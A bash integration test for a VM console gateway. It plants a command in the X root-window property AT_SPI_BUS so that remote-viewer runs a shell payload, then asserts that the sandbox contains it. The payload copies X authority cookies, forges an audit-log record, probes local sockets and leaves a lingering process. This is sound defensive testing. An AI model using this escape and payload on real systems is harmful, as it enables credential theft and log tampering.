#!/bin/bash
# The viewer escape through the person's own X server, performed for real
# (TEST-STACK.md, "The person's X server is hostile"): before `ssh`, the
# "laptop" sets the root-window property
#
#   AT_SPI_BUS = unixexec:path=/bin/sh,argv1=-c,argv2=PAYLOAD
#
# GTK's accessibility bridge in remote-viewer reads it and libdbus runs
# PAYLOAD wherever the viewer runs, as the gateway account. PAYLOAD (below,
# filled in per run) tries everything a person with that foothold would. A
# real sshd with the gateway as the key's forced command, QEMU's Spice
# server, remote-viewer and a laptop Xvfb (-noreset, so the property stays).
# Three runs, each with its own mark: (x) `ssh -X` as Debian runs it
# (ForwardX11Trusted yes), (u) `ssh -X -o ForwardX11Trusted=no`, (y) `ssh -Y`.
#
# Threats (what PAYLOAD tries)            Assertions, per run (after the session ended)
# ------------------------------------    ---------------------------------------------------
#                                         1 the console works: the VM's window appears
#                                           on the laptop (the attack does not just
#                                           break the viewer)
# T1 files anywhere the account may       2 no file carrying the mark exists: not in the
#    write, holding its cookies             test's 1777 dir, /tmp, /var/tmp, /dev/shm,
#    (~/.Xauthority copied out): the        the account's home, the gateway's run dir,
#    test's 1777 dir, /tmp, /var/tmp,       the log dir
#    /dev/shm, home, run dir, log dir
# T2 a forged record appended to the      3 the session log has no forged line (the
#    audit log                              payload's, byte for byte)
# T3 a TCP connection to 127.0.0.1        4 the test's TCP listener took no connection
#    (any local service: sshd, other
#    people's tunnels, X11 forwards)
# T4 a connection to a Unix socket in a   5 the world-accessible Unix listener took none
#    world-accessible dir
# T5 a VM's Spice socket, straight,       6 the decoy VM socket (a listener standing in
#    past the relay, its counting and       for a VM, the account granted rw by ACL, as
#    its channel policy                     on every real VM socket) took none
# T6 a process that outlives the          7 no process with the mark in its argv is
#    session (setsid, own session)          alive once the session has ended
#                                         8 the session ended and wrote its end record
#                                           (the test's own sanity)
#
# Whether PAYLOAD ran at all is not asserted (a sandbox may keep the bridge
# from starting it); its last step opens a window titled "MARK-done: WHAT
# WORKED" on the laptop through the viewer's X11 (the one way out a sandboxed
# viewer keeps), which the test waits for (bounded) so that it does not check
# before PAYLOAD finished, and prints.
#
# Usage: test-viewer-escape.sh GATEWAY-BINARY     (TAP; needs root, else exit 77)
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/../integration/lib.sh"
. "$HERE/../integration/sshd-lib.sh"
. "$HERE/security-lib.sh"
need_root
GW=$(realpath "$1")

for prog in qemu-system-x86_64 remote-viewer Xvfb /usr/sbin/sshd ssh ssh-keygen xauth \
            setfacl python3 xwininfo xprop xmessage setsid; do
    if ! command -v "$prog" >/dev/null; then
        echo "1..0 # SKIP $prog is not installed (scripts/install-deps installs it)"
        exit 77
    fi
done

P=$(vmc_prefix e)
VMC_T_DIR=$(mktemp -d /tmp/vmc-sec-XXXXXX)
chmod 0755 "$VMC_T_DIR"
D=$VMC_T_DIR
SUFFIX=${D##*/vmc-sec-}
SSH_PIDS=""
MARKS=""

cleanup() {
    local p m
    for p in $SSH_PIDS; do kill "$p" 2>/dev/null; done
    sshd_cleanup
    for m in $MARKS; do sec_remove_marked "$m"; done
    stop_all_qemu 2>/dev/null
    stop_all_xvfb 2>/dev/null
    for p in $SSH_PIDS; do wait "$p" 2>/dev/null; done
    cleanup_common
}
trap cleanup EXIT

ACCOUNT=${P}gw ALICE=${P}al SPICEX=${P}sx
TITLE="Escape test VM"
TITLE_RE="^$TITLE( \\([0-9]+\\))?\$"   # remote-viewer adds " (1)", the monitor
CONF=$D/gateway.conf
LOG=$D/log/sessions.jsonl
RUN=$D/run

# ---- the payload: /bin/sh -c THIS, as the gateway account, wherever the viewer runs ----
# @MARK@ @DIR@ @ACCOUNT@ @PORT@ are filled in per run; "$M-linger" is only
# ever spelled out by the process it names.
# shellcheck disable=SC2016 # expanded by the payload's shell, not here
PAYLOAD_TEMPLATE='
M=@MARK@ D=@DIR@ H=@DIR@/home/@ACCOUNT@
got=""
# T1: the account'\''s X cookies (every session'\''s), or at least the mark,
# written wherever it can write
for d in "$D/pub" /tmp /var/tmp /dev/shm "$H" "$D/run" "$D/log"; do
    { cat "$H/.Xauthority"; echo "$M"; } 2>/dev/null > "$d/$M" && got="$got file:$d"
done
# T2: a forged record in the audit log
printf "{\"v\":1,\"event\":\"forged\",\"by\":\"%s\"}\n" "$M" >> "$D/log/sessions.jsonl" 2>/dev/null &&
    got="$got log"
# T3, T4, T5: a local TCP service, a Unix listener anyone may use, a VM socket
got="$got $(python3 -c "
import socket, sys
for a in sys.argv[2:]:
    s = socket.socket(socket.AF_INET if a.isdigit() else socket.AF_UNIX)
    s.settimeout(3)
    try:
        s.connect((\"127.0.0.1\", int(a)) if a.isdigit() else a)
        s.sendall(sys.argv[1].encode())
        print(\"conn:\" + a)
    except OSError:
        pass
" "$M" @PORT@ "$D/pub/listen.sock" "$D/spicex/decoy.sock" 2>/dev/null | tr "\n" " ")"
# T6: a process of its own session that outlives the console session
setsid -f bash -c "exec -a $M-linger sleep 300" </dev/null >/dev/null 2>&1 && got="$got linger"
# done: a window on the laptop, through the viewer'\''s X11, says what worked
xmessage -name "$M-done" -title "$M-done:$got" -timeout 120 "$M" </dev/null >/dev/null 2>&1 &
'

# The payload as a D-Bus address value: every byte outside [-0-9A-Za-z_/.*]
# %-escaped (libdbus refuses an address with anything else unescaped).
dbus_escape() {
    python3 -c '
import sys
print("".join(c if c.isascii() and (c.isalnum() or c in "-_/.*") else "%%%02x" % ord(c)
              for c in sys.argv[1]))' "$1"
}

payload_for() { # payload_for MARK
    local p=$PAYLOAD_TEMPLATE
    p=${p//@MARK@/$1}; p=${p//@DIR@/$D}; p=${p//@ACCOUNT@/$ACCOUNT}; p=${p//@PORT@/$TCP_PORT}
    printf '%s' "$p"
}

# ---- helpers ----

lx() { DISPLAY=$LAPTOP XAUTHORITY=$D/laptop.xauth "$@"; } # a client of the laptop's X server

# JSON Lines queries on the log: R is the list of records.
jl() { # jl PYTHON-EXPRESSION
    python3 -c '
import json, sys
R = []
for l in open(sys.argv[1], encoding="utf-8"):
    try:
        R.append(json.loads(l))
    except ValueError:
        pass
print(eval(sys.argv[2]))' "$LOG" "$1"
}
last_start_of() { jl "([r['session'] for r in R if r.get('event')=='start' and r.get('identity')=='$1'] or [''])[-1]"; }
end_reason() { jl "([r.get('reason', '') for r in R if r.get('event')=='end' and r.get('session')=='$1'] or [''])[-1]"; }
has_end() { [ -n "$(end_reason "$1")" ]; }
gateway_pid() { sed -n 's/^pid=//p' "$RUN/target.lock" 2>/dev/null; }
gone() { ! pid_alive "$1"; }

diag() { # diag TAG
    {
        echo "--- $1: ssh stderr"; cat "$D/$1.err" 2>/dev/null
        echo "--- sshd log (tail)"; sshd_log_tail 10
        echo "--- last records"; tail -n 2 "$LOG" 2>/dev/null
    } | sed 's/^/# /'
}

list_or_none() { # list_or_none LINES: "none" or the lines joined
    if [ -z "$1" ]; then echo none; else printf '%s' "$1" | tr '\n' ' '; fi
}

# ---- setup: people, account, dirs, config, VM, listeners, laptop, sshd ----

add_group "$SPICEX" && add_user "$ALICE" "$SPICEX" || exit 1
sshd_add_account "$ACCOUNT" || exit 1
gateway_prepare_dirs || exit 1
install -d -m 0755 "$D/spicex"
install -d -m 1777 "$D/pub"

cat > "$CONF" <<EOF
[gateway]
socket-pattern = $D/spicex/%s.sock
viewer = /usr/bin/remote-viewer
log = $LOG
run-dir = $RUN

[vm target]
title = $TITLE
acl = group:$SPICEX:rw
EOF
chmod 0644 "$CONF"

start_qemu target "$D/spicex/target.sock" &&
    setfacl -m "u:$ACCOUNT:rw,g:$SPICEX:rw" "$D/spicex/target.sock" || exit 1
# T5's stand-in for a VM: the account has rw on it, as on every VM socket
sec_listen_unix decoy "$D/spicex/decoy.sock" && chmod 0700 "$D/spicex/decoy.sock" &&
    setfacl -m "u:$ACCOUNT:rw" "$D/spicex/decoy.sock" || exit 1
sec_listen_unix pub "$D/pub/listen.sock" || exit 1
sec_listen_tcp tcp && TCP_PORT=$SEC_PORT || exit 1

start_xvfb laptop || exit 1
LAPTOP=$XVFB_DISPLAY
: > "$D/laptop.xauth"

sshd_start || exit 1
GW=$(install_gateway "$GW" "$D") || exit 1
sshd_add_key alice "$GW --config $CONF --identity $ALICE" || exit 1
echo "# sshd on 127.0.0.1:$VMC_SSHD_PORT, account $ACCOUNT, laptop $LAPTOP, listener :$TCP_PORT"

# ---- one run: set the property, open the console, end it, look ----
# run_attack TAG SSH-OPTION...
run_attack() {
    local tag=$1; shift
    local mark=vmcpwn-$SUFFIX-$tag pid gw sid title c_tcp c_pub c_decoy files procs injected
    MARKS="$MARKS $mark"
    echo "# run $tag: ssh $* (mark $mark)"
    c_tcp=$(sec_connections tcp) c_pub=$(sec_connections pub) c_decoy=$(sec_connections decoy)

    lx xprop -root -f AT_SPI_BUS 8s -set AT_SPI_BUS \
        "unixexec:path=/bin/sh,argv1=-c,argv2=$(dbus_escape "$(payload_for "$mark")")" || return 1
    ( lx ssh_as alice "$@" -- target </dev/null >"$D/$tag.out" 2>"$D/$tag.err" ) &
    pid=$!
    SSH_PIDS="$SSH_PIDS $pid"

    if wait_for_window "$LAPTOP" "$TITLE_RE" 30; then
        ok 0 "$tag: the console works: the window '$TITLE' appears on the laptop"
    else
        ok 1 "$tag: the console works: the window '$TITLE' appears on the laptop"; diag "$tag"
    fi
    gw=$(gateway_pid)
    sid=$(last_start_of "$ALICE")
    # PAYLOAD's last step (if it runs at all): its window; bounded
    if wait_for_window "$LAPTOP" "^$mark-done" 10 2>/dev/null; then
        title=$(window_titles "$LAPTOP" | grep "^$mark-done" | head -n 1)
        echo "# $tag: the payload ran and says: ${title#"$mark-done:"}"
    else
        echo "# $tag: no sign of the payload within 10 s (the bridge did not run it, or it could not reach X)"
    fi

    ssh_bg_end "$pid"
    SSH_PIDS=$(vmc_words_without "$pid" "$SSH_PIDS")
    [ -z "$gw" ] || sec_wait_until 100 gone "$gw" || echo "# $tag: the gateway (pid $gw) is still running"
    sec_wait_until 50 has_end "$sid"

    files=$(sec_marked_files "$mark")
    ok "$([ -z "$files" ]; echo $?)" \
        "$tag: T1 no file with the mark anywhere (found: $(list_or_none "$files"))"
    injected=$(grep -cF "{\"v\":1,\"event\":\"forged\",\"by\":\"$mark\"}" "$LOG")
    ok "$([ "$injected" = 0 ]; echo $?)" "$tag: T2 no injected line in the session log (found $injected)"
    ok "$([ "$(sec_connections tcp)" = "$c_tcp" ]; echo $?)" \
        "$tag: T3 the TCP listener on 127.0.0.1:$TCP_PORT took no connection ($(( $(sec_connections tcp) - c_tcp )))"
    ok "$([ "$(sec_connections pub)" = "$c_pub" ]; echo $?)" \
        "$tag: T4 the world-accessible Unix listener took no connection ($(( $(sec_connections pub) - c_pub )))"
    ok "$([ "$(sec_connections decoy)" = "$c_decoy" ]; echo $?)" \
        "$tag: T5 the decoy VM socket took no connection ($(( $(sec_connections decoy) - c_decoy )))"
    # the sandbox's end may take a moment to reach every process in it: bounded
    sec_wait_until 50 eval '[ -z "$(sec_marked_pids "$mark-linger")" ]'
    procs=$(sec_marked_pids "$mark-linger")
    ok "$([ -z "$procs" ]; echo $?)" \
        "$tag: T6 no process left with '$mark-linger' in its argv (alive: $(list_or_none "$procs"))"
    ok "$([ -n "$sid" ] && has_end "$sid"; echo $?)" \
        "$tag: the session ${sid:-?} ended with an end record (reason '$(end_reason "$sid")')"

    # what this run left must not confuse the next: remove it now
    sec_remove_marked "$mark"
    sec_wait_until 50 eval '! window_id "$LAPTOP" "$TITLE_RE" >/dev/null'
}

run_attack x -X -o ForwardX11Trusted=yes
run_attack u -X -o ForwardX11Trusted=no
run_attack y -Y
lx xprop -root -remove AT_SPI_BUS
finish
